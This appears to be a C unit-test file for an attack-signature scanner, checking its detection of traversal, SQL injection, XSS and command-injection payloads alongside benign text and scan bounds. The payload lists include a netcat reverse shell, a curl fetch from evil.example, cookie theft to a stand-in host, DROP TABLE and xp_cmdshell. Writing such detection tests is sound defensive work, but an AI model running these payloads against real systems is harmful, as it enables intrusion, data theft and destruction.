/* Attack signatures: each class against payloads in the shapes of the well-known lists (plain,
 * percent-encoded, double-encoded, overlong, mixed case), each found with exactly its class;
 * benign text that must not match; normalisation edges; the scan limit and long inputs; JSON
 * scanning of values and keys with its depth, item and byte bounds; class names. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include <jansson.h>

#include "bulwark/attack.h"

static unsigned scan(const char *text)
{
    return bw_attack_scan(text, strlen(text));
}

/* Every string of list is found with exactly class. */
static void expect_class(const char *const *list, size_t count, unsigned class)
{
    size_t i;

    for (i = 0; i < count; i++) {
        unsigned got = scan(list[i]);
        if (got != class)
            fail_msg("%s: got 0x%x, expected 0x%x (%s)", list[i], got, class,
                     bw_attack_class_name(class));
    }
}

#define EXPECT_CLASS(list, class) expect_class(list, sizeof(list) / sizeof(list[0]), class)

/* ---- each class ------------------------------------------------------------------------- */

static void test_traversal(void **state)
{
    static const char *const cases[] = {
        "../../../../etc/passwd",
        "..%2f..%2f..%2fetc%2fpasswd",
        "%2e%2e%2f%2e%2e%2fsecret.txt",
        "..%252f..%252fconfig.json",
        "%252e%252e%252fapp.db",
        "..\\..\\windows\\system32\\drivers\\etc\\hosts",
        "..%5c..%5capp.db",
        "%c0%ae%c0%ae/%c0%ae%c0%ae/app.db",
        "..%c0%af..%c0%afapp.db",
        "%25c0%25ae%25c0%25ae%25c0%25afapp.db",
        "%e0%80%ae%e0%80%ae%e0%80%afapp.db",
        "....//....//app.db",
        "..%00/app.db",
        "/ETC/PASSWD",
        "file:///etc/passwd",
        "C:\\Windows\\WIN.INI",
        "c:\\boot.ini",
        "/files/a/..",
        "..;..%5C..%5cBOOT.INI",
    };
    (void)state;
    EXPECT_CLASS(cases, BW_ATTACK_TRAVERSAL);
}

static void test_sqli(void **state)
{
    static const char *const cases[] = {
        "' or '1'='1",
        "' OR 1=1--",
        "admin'--",
        "admin' -- -",
        "admin'#",
        "admin')#",
        "\" or \"\"=\"",
        "') or ('a'='a",
        "1' oR 2>1 --",
        "' or true--",
        "' or 1 #",
        "x' AND 1=1",
        "'/**/or/**/1=1",
        "'\tor\n'x'='x",
        "%27%20or%20%271%27%3D%271",
        "%2527%2520OR%25201%253D1",
        "1 UNION SELECT username, password FROM users",
        "1 union all select null,null",
        "-1 UnIoN/**/SeLeCt 1,2,3",
        "1/*!50000union*/ /*!50000select*/ 1",
        "1 union (select 1)",
        "1'; DROP TABLE users",
        "1; drop database app",
        "'; shutdown --",
        "1; SHUTDOWN",
        "1' and sleep(5)",
        "1' or benchmark(10000000,md5(1))",
        "'; select pg_sleep(10)",
        "'; waitfor delay '0:0:5'",
        "1 and 1=(select count(*) from information_schema.tables)",
        "'; exec master.dbo.xp_cmdshell 'dir'",
    };
    (void)state;
    EXPECT_CLASS(cases, BW_ATTACK_SQLI);
}

static void test_xss(void **state)
{
    static const char *const cases[] = {
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js></script>",
        "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "%253Cscript%253Ealert(1)",
        "\"><script>alert(1)</script>",
        "<scr%00ipt>alert(1)",
        "%c0%bcscript>alert(1)",
        "<img src=x onerror=alert(1)>",
        "<IMG SRC=\"x\" ONERROR = \"alert(1)\">",
        "<svg/onload=alert(1)>",
        "<svg onload=alert(1)",
        "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<div onmouseover='alert(1)'>hover</div>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "JaVaScRiPt:alert(1)",
        "jav%09ascript:alert(1)",
        "java%0d%0ascript:alert(1)",
        "<a href=\"javascript: alert(1)\">",
        "vbscript:msgbox(1)",
        "fetch('//evil.example/?c='+document.cookie)",
        "';eval(atob('YWxlcnQoMSk='))//",
        "\"+eval (name)+\"",
    };
    (void)state;
    EXPECT_CLASS(cases, BW_ATTACK_XSS);
}

static void test_cmdi(void **state)
{
    static const char *const cases[] = {
        "; cat /etc/hosts",
        "127.0.0.1; ls -la",
        "x;id",
        "; id",
        "| nc 10.0.0.1 4444 -e /bin/sh",
        "|| ping -c 10 127.0.0.1",
        "a && curl http://evil.example/x.sh",
        "&& wget evil.example/x",
        "`whoami`",
        "x`uname -a`",
        "$(id)",
        "$(sleep 5)",
        "%3B%20uname%20-a",
        "%253Bid",
        "; WHOAMI",
        "; rm -rf /tmp/x",
        "x | bash",
        "; Bash -i",
        "; echo 'pwned'",
        "/bin/sh -i",
        "cmd.exe /c dir",
        "%3b%09cat%09/proc/self/environ",
    };
    (void)state;
    EXPECT_CLASS(cases, BW_ATTACK_CMDI);
}

/* Payloads that carry two classes report both. */
static void test_several_classes(void **state)
{
    (void)state;
    assert_int_equal(scan("; cat ../../etc/passwd"), BW_ATTACK_CMDI | BW_ATTACK_TRAVERSAL);
    assert_int_equal(scan("' union select '<script>alert(1)</script>'"),
                     BW_ATTACK_SQLI | BW_ATTACK_XSS);
    assert_int_equal(scan("../x' or 1=1 -- <script>; id"), BW_ATTACK_ALL);
}

/* ---- benign text ------------------------------------------------------------------------ */

static void test_benign(void **state)
{
    static const char *const cases[] = {
        "don't select this one",
        "O'Brien",
        "Shaquille O'Neal and Conan O'Brien's show",
        "it's a dog's life; isn't it?",
        "report..final.pdf",
        "Wait... what?",
        "see section 3.2..3.4",
        "a/b/c",
        "/notes/42?sort=title&dir=asc",
        "1 + 1 = 2",
        "x = y + 1; z = x * 2",
        "o'neil@example.com",
        "first.last+tag@mail.example.org",
        "https://example.com/search?q=select+from&page=2#top",
        "https://example.com/a.b/c?x=1&y=2&z=%20",
        "<3",
        "I <3 you & you <3 me",
        "a < b and c > d",
        "rock & roll",
        "Tom & Jerry && friends",
        "# Title\n\n* item one\n* **bold** _it_ [link](https://example.com/a?b=c&d=e)\n",
        "| id | name | cat |\n|----|------|-----|\n| 1 | Tom | yes |",
        "```sql\nSELECT * FROM notes WHERE id = 1;\n```",
        "```\nls -la\n```",
        "```sh\nrm -rf build && make\n```",
        "Use `select` to pick a value.",
        "Run `ls` in the folder.",
        "Select the union of both sets",
        "The union selected a new leader",
        "{\"name\": \"O'Brien\", \"tags\": [\"a\", \"b\"], \"n\": 1}",
        "{\"or\": \"b\", \"and\": 1}",
        "JavaScript: The Good Parts",
        "I wrote it in javascript",
        "we evaluate(x) and medieval (times)",
        "on the other hand, one=1",
        "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
        "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
        "\"Chromium\";v=\"118\", \"Google Chrome\";v=\"118\", \"Not=A?Brand\";v=\"99\"",
        "en-US,en;q=0.9",
        "application/json; charset=utf-8",
        "for=192.0.2.60;proto=http;by=203.0.113.43",
        "image/avif,image/webp,*/*",
        "if (a && b) { x = 1; }",
        "items | sort | uniq",
        "W/\"5e8f-1a2b\"",
        "bytes=0-1023",
        "I like dogs; cats too",
        "Ingredients: milk; cat food; eggs",
        "See you at 5; ping me when you're there.",
        "sentence; id est, that is",
        "The % sign and %zz and 100%",
        "Hello, world!",
        "use the '#' character",
        "pass '--verbose' to see more",
        "My password is 'hunter2'",
        "50% off; sleep well",
        "C# and F# are languages",
        "email me at bob@example.com (or not)",
        "the etc/ folder and passwords",
        "twin.ini.bak",
    };
    size_t i;
    (void)state;

    for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        unsigned got = scan(cases[i]);
        if (got != 0)
            fail_msg("benign text matched 0x%x: %s", got, cases[i]);
    }
}

/* The false positives docs/attack-signatures.md admits to, kept true here. */
static void test_known_false_positives(void **state)
{
    (void)state;
    assert_int_equal(scan("He said 'hello' -- then left"), BW_ATTACK_SQLI);
    assert_int_equal(scan("I said 'yes' and x=5"), BW_ATTACK_SQLI);
    assert_int_equal(scan("the union select committee"), BW_ATTACK_SQLI);
    assert_int_equal(scan("see [the guide](../docs/guide.md)"), BW_ATTACK_TRAVERSAL);
    assert_int_equal(scan("the file /etc/passwd lists accounts"), BW_ATTACK_TRAVERSAL);
    assert_int_equal(scan("Run `ls -la` first"), 0);
    assert_int_equal(scan("`ls -la` lists files"), BW_ATTACK_CMDI);
    assert_int_equal(scan("| ls -la | lists files |"), BW_ATTACK_CMDI);
    assert_int_equal(scan("if x<y onion=3"), BW_ATTACK_XSS);
    /* And what is knowingly not decoded. */
    assert_int_equal(scan("&#106;avascript:alert(1)"), 0);
    assert_int_equal(scan("```bash\n$ ls -la\n```"), 0);
}

/* ---- normalisation and edges ------------------------------------------------------------ */

static void test_normalisation(void **state)
{
    (void)state;
    /* Decoding stops after two rounds: a triple-encoded payload is not recognised. */
    assert_int_equal(scan("%25252e%25252e%25252f"), 0);
    assert_int_equal(scan("%252e%252e%252f"), BW_ATTACK_TRAVERSAL);
    /* A split escape "%%32%65" becomes "%2e" after one round and '.' after two. */
    assert_int_equal(scan("%%32%65%%32%65/x"), BW_ATTACK_TRAVERSAL);
    /* '+' is not a space: "'+or+1=1" has no whitespace around "or". */
    assert_int_equal(scan("x'+or+1=1"), 0);
    assert_int_equal(scan("x' or 1=1"), BW_ATTACK_SQLI);
    /* Invalid and truncated escapes are kept as they are. */
    assert_int_equal(scan("%zz%2"), 0);
    assert_int_equal(scan("..%2"), 0);
    assert_int_equal(scan("..%2f"), BW_ATTACK_TRAVERSAL);
    /* An overlong NUL (%c0%80) is dropped like a NUL. */
    assert_int_equal(scan("<scr%c0%80ipt>"), BW_ATTACK_XSS);
    /* Overlong forms of non-ASCII characters and lone lead bytes stay bytes. */
    assert_int_equal(scan("%c0..%e0%80"), 0);
    assert_int_equal(bw_attack_scan("../\0", 4), BW_ATTACK_TRAVERSAL);
    assert_int_equal(bw_attack_scan(".\0./", 4), BW_ATTACK_TRAVERSAL);
    /* An unterminated comment hides the rest from the SQL checks, as it would from SQL. */
    assert_int_equal(scan("1 /* union select 1"), 0);
    assert_int_equal(scan("1 union/* x */select 1"), BW_ATTACK_SQLI);
    /* Explicit lengths: bytes past len are never looked at. */
    assert_int_equal(bw_attack_scan("../etc", 2), 0);
    assert_int_equal(bw_attack_scan("../etc", 3), BW_ATTACK_TRAVERSAL);
    assert_int_equal(bw_attack_scan(NULL, 0), 0);
    assert_int_equal(bw_attack_scan(NULL, 10), 0);
    assert_int_equal(bw_attack_scan("", 0), 0);
}

/* Each signature at the very end of the input, where its checks run out of bytes. */
static void test_truncated_forms(void **state)
{
    static const char *const none[] = {
        "..",        "x' or",        "x' or '1",  "x' or 1",
        "union",     "union all",    "; drop",    "; drop table_x",
        "<scrip",    "<img onerror", "<img on=",  "javascript",
        "vbscript:", "eval",         "x eval (",  ";",
        "|",         "&&",           "`",         "$(",
        "; idx",     "; cat,",       "x' or 'a'",
    };
    size_t i;
    (void)state;

    for (i = 0; i < sizeof(none) / sizeof(none[0]); i++) {
        unsigned got = scan(none[i]);
        if (got != 0)
            fail_msg("truncated form matched 0x%x: %s", got, none[i]);
    }
    assert_int_equal(scan("x' or 1"), 0);
    assert_int_equal(scan("x' or 1 --"), BW_ATTACK_SQLI);
    assert_int_equal(scan("<script"), BW_ATTACK_XSS);
    assert_int_equal(scan("; ls"), BW_ATTACK_CMDI);
    assert_int_equal(scan("; ls "), BW_ATTACK_CMDI);
    assert_int_equal(scan("a/.."), BW_ATTACK_TRAVERSAL);
}

/* ---- the scan limit and long inputs ----------------------------------------------------- */

/* A buffer of len bytes of fill with text copied at offset at. */
static char *filled(size_t len, char fill, size_t at, const char *text)
{
    char *p = malloc(len);
    size_t n = strlen(text);

    assert_non_null(p);
    memset(p, fill, len);
    assert_true(at <= len && len - at >= n);
    memcpy(p + at, text, n);
    return p;
}

static void test_scan_limit(void **state)
{
    const char *payload = "../";
    size_t n = strlen(payload);
    char *p;
    (void)state;

    /* Ending exactly at the limit: found. One byte later: cut to "..", not found. */
    p = filled(BW_ATTACK_SCAN_MAX + 16, 'a', BW_ATTACK_SCAN_MAX - n, payload);
    assert_int_equal(bw_attack_scan(p, BW_ATTACK_SCAN_MAX + 16), BW_ATTACK_TRAVERSAL);
    free(p);
    p = filled(BW_ATTACK_SCAN_MAX + 16, 'a', BW_ATTACK_SCAN_MAX - n + 1, payload);
    assert_int_equal(bw_attack_scan(p, BW_ATTACK_SCAN_MAX + 16), 0);
    free(p);
}

static void test_long_inputs(void **state)
{
    const size_t mib = (size_t)1 << 20;
    static const char *const patterns[] = {"'", "<a ", "../", "%25", ";", "/*", "' or ", "`"};
    char *p;
    size_t i, k;
    (void)state;

    /* A payload at the start of 1 MiB is found; at the end it is past the limit. */
    p = filled(mib, 'x', 0, "' or 1=1 --  ");
    assert_int_equal(bw_attack_scan(p, mib), BW_ATTACK_SQLI);
    free(p);
    p = filled(mib, 'x', mib - 16, " ' or 1=1 --");
    assert_int_equal(bw_attack_scan(p, mib), 0);
    free(p);
    /* Repetitions that would make a backtracking matcher slow finish, with the right result. */
    for (k = 0; k < sizeof(patterns) / sizeof(patterns[0]); k++) {
        size_t plen = strlen(patterns[k]);
        p = malloc(mib);
        assert_non_null(p);
        for (i = 0; i + plen <= mib; i += plen)
            memcpy(p + i, patterns[k], plen);
        memset(p + i, ' ', mib - i);
        switch (patterns[k][0]) {
        case '.':
            assert_int_equal(bw_attack_scan(p, mib), BW_ATTACK_TRAVERSAL);
            break;
        default:
            assert_int_equal(bw_attack_scan(p, mib), 0);
            break;
        }
        free(p);
    }
    /* 1 MiB of quotes and ')' (the tautology check skips parentheses after each quote). */
    p = malloc(mib);
    assert_non_null(p);
    memset(p, ')', mib);
    for (i = 0; i < mib; i += 97)
        p[i] = '\'';
    assert_int_equal(bw_attack_scan(p, mib), 0);
    free(p);
}

/* ---- JSON ------------------------------------------------------------------------------- */

static json_t *parse(const char *text)
{
    json_error_t err;
    json_t *v = json_loads(text, JSON_DECODE_ANY | JSON_ALLOW_NUL, &err);

    if (v == NULL)
        fail_msg("bad JSON in test: %s", err.text);
    return v;
}

static void test_json_finds_nested(void **state)
{
    json_t *v;
    (void)state;

    v = parse("{\"title\": \"O'Brien\", \"tags\": [\"a\", {\"x\": [1, 2, \"../../etc/passwd\"]}]}");
    assert_int_equal(bw_attack_scan_json(v), BW_ATTACK_TRAVERSAL);
    json_decref(v);
    v = parse("{\"a\": {\"<img src=x onerror=alert(1)>\": true}}");
    assert_int_equal(bw_attack_scan_json(v), BW_ATTACK_XSS);
    json_decref(v);
    v = parse("[\"' or '1'='1\", [[\"; id\"]], {\"k\": null}]");
    assert_int_equal(bw_attack_scan_json(v), BW_ATTACK_SQLI | BW_ATTACK_CMDI);
    json_decref(v);
    /* A bare string document; keys and values with an embedded NUL are scanned to their full
     * length. */
    v = parse("\"<iframe>\"");
    assert_int_equal(bw_attack_scan_json(v), BW_ATTACK_XSS);
    json_decref(v);
    v = json_object();
    assert_non_null(v);
    assert_int_equal(json_object_setn_new(v, "x\0../y", 6, json_true()), 0);
    assert_int_equal(bw_attack_scan_json(v), BW_ATTACK_TRAVERSAL);
    json_decref(v);
    v = parse("[\"x\\u0000<script>\"]");
    assert_int_equal(bw_attack_scan_json(v), BW_ATTACK_XSS);
    json_decref(v);
    /* Benign documents, numbers, booleans, null. */
    v = parse("{\"title\": \"Don't select this one\", \"n\": 1.5, \"ok\": false, \"z\": null,"
              " \"list\": [\"a/b/c\", \"rock & roll\", \"<3\"]}");
    assert_int_equal(bw_attack_scan_json(v), 0);
    json_decref(v);
    v = parse("[]");
    assert_int_equal(bw_attack_scan_json(v), 0);
    json_decref(v);
    assert_int_equal(bw_attack_scan_json(NULL), 0);
}

/* A payload string inside depth nested arrays: the innermost array is at that depth. */
static json_t *nested(size_t depth, const char *payload)
{
    json_t *v = json_string(payload);
    size_t d;

    assert_non_null(v);
    for (d = 0; d < depth; d++) {
        json_t *a = json_array();
        assert_non_null(a);
        assert_int_equal(json_array_append_new(a, v), 0);
        v = a;
    }
    return v;
}

static void test_json_depth_bound(void **state)
{
    json_t *v;
    (void)state;

    v = nested(BW_ATTACK_JSON_MAX_DEPTH, "<script>");
    assert_int_equal(bw_attack_scan_json(v), BW_ATTACK_XSS);
    json_decref(v);
    v = nested(BW_ATTACK_JSON_MAX_DEPTH + 1, "<script>");
    assert_int_equal(bw_attack_scan_json(v), 0);
    json_decref(v);
    /* Very deep nesting is not walked, so it costs nothing. */
    v = nested(5000, "<script>");
    assert_int_equal(bw_attack_scan_json(v), 0);
    json_decref(v);
}

static void test_json_item_bound(void **state)
{
    json_t *a = json_array();
    size_t i;
    (void)state;

    assert_non_null(a);
    /* The array is item 1, the plain strings items 2..MAX_ITEMS: the payload is one too many. */
    for (i = 0; i < BW_ATTACK_JSON_MAX_ITEMS - 1; i++)
        assert_int_equal(json_array_append_new(a, json_string("plain")), 0);
    assert_int_equal(json_array_append_new(a, json_string("$(id)")), 0);
    assert_int_equal(bw_attack_scan_json(a), 0);
    json_decref(a);

    a = json_array();
    assert_non_null(a);
    /* Numbers count as items too: here the payload is item MAX_ITEMS, the last visited. */
    for (i = 0; i < BW_ATTACK_JSON_MAX_ITEMS - 2; i++)
        assert_int_equal(json_array_append_new(a, json_integer((json_int_t)i)), 0);
    assert_int_equal(json_array_append_new(a, json_string("$(id)")), 0);
    assert_int_equal(bw_attack_scan_json(a), BW_ATTACK_CMDI);
    /* Many more items after it change nothing; a scan stops at the bound. */
    for (i = 0; i < 100000; i++)
        assert_int_equal(json_array_append_new(a, json_string("$(id)")), 0);
    assert_int_equal(bw_attack_scan_json(a), BW_ATTACK_CMDI);
    json_decref(a);
}

static void test_json_byte_bound(void **state)
{
    size_t per = BW_ATTACK_SCAN_MAX, count = BW_ATTACK_JSON_MAX_BYTES / per, i;
    char *big = malloc(per + 1);
    json_t *o = json_object();
    char key[32];
    (void)state;

    assert_non_null(big);
    assert_non_null(o);
    memset(big, 'a', per);
    big[per] = '\0';
    /* count - 1 one-byte keys with full-size values, then the key "z": 8 * count bytes used. */
    for (i = 0; i + 1 < count; i++) {
        int n = snprintf(key, sizeof(key), "%c", (char)('a' + (int)i));
        assert_true(n > 0 && (size_t)n < sizeof(key));
        assert_int_equal(json_object_set_new(o, key, json_string(big)), 0);
    }
    /* The budget left is smaller than the last value: a payload at its start is scanned,
     * one at its end is not. */
    big[0] = '<';
    memcpy(big + 1, "script>", 7);
    assert_int_equal(json_object_set_new(o, "z", json_string(big)), 0);
    assert_int_equal(bw_attack_scan_json(o), BW_ATTACK_XSS);
    memset(big, 'a', per);
    memcpy(big + per - 8, "<script>", 8);
    assert_int_equal(json_object_set_new(o, "z", json_string(big)), 0);
    assert_int_equal(bw_attack_scan_json(o), 0);
    /* A string after the budget is spent is not scanned at all. */
    assert_int_equal(json_object_set_new(o, "zz", json_string("<script>")), 0);
    assert_int_equal(bw_attack_scan_json(o), 0);
    json_decref(o);
    free(big);
}

static void test_json_stops_when_all_found(void **state)
{
    json_t *v = parse("[\"../x\", \"' or 1=1 --\", \"<script>\", \"; id\", \"more\"]");
    (void)state;

    assert_int_equal(bw_attack_scan_json(v), BW_ATTACK_ALL);
    json_decref(v);
}

/* ---- names ------------------------------------------------------------------------------ */

static void test_class_names(void **state)
{
    unsigned bit;
    (void)state;

    assert_string_equal(bw_attack_class_name(BW_ATTACK_TRAVERSAL), "traversal");
    assert_string_equal(bw_attack_class_name(BW_ATTACK_SQLI), "sqli");
    assert_string_equal(bw_attack_class_name(BW_ATTACK_XSS), "xss");
    assert_string_equal(bw_attack_class_name(BW_ATTACK_CMDI), "cmdi");
    assert_null(bw_attack_class_name(0));
    assert_null(bw_attack_class_name(BW_ATTACK_SQLI | BW_ATTACK_XSS));
    assert_null(bw_attack_class_name(BW_ATTACK_ALL));
    for (bit = 0x10u; bit != 0; bit <<= 1)
        assert_null(bw_attack_class_name(bit));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_traversal),
        cmocka_unit_test(test_sqli),
        cmocka_unit_test(test_xss),
        cmocka_unit_test(test_cmdi),
        cmocka_unit_test(test_several_classes),
        cmocka_unit_test(test_benign),
        cmocka_unit_test(test_known_false_positives),
        cmocka_unit_test(test_normalisation),
        cmocka_unit_test(test_truncated_forms),
        cmocka_unit_test(test_scan_limit),
        cmocka_unit_test(test_long_inputs),
        cmocka_unit_test(test_json_finds_nested),
        cmocka_unit_test(test_json_depth_bound),
        cmocka_unit_test(test_json_item_bound),
        cmocka_unit_test(test_json_byte_bound),
        cmocka_unit_test(test_json_stops_when_all_found),
        cmocka_unit_test(test_class_names),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
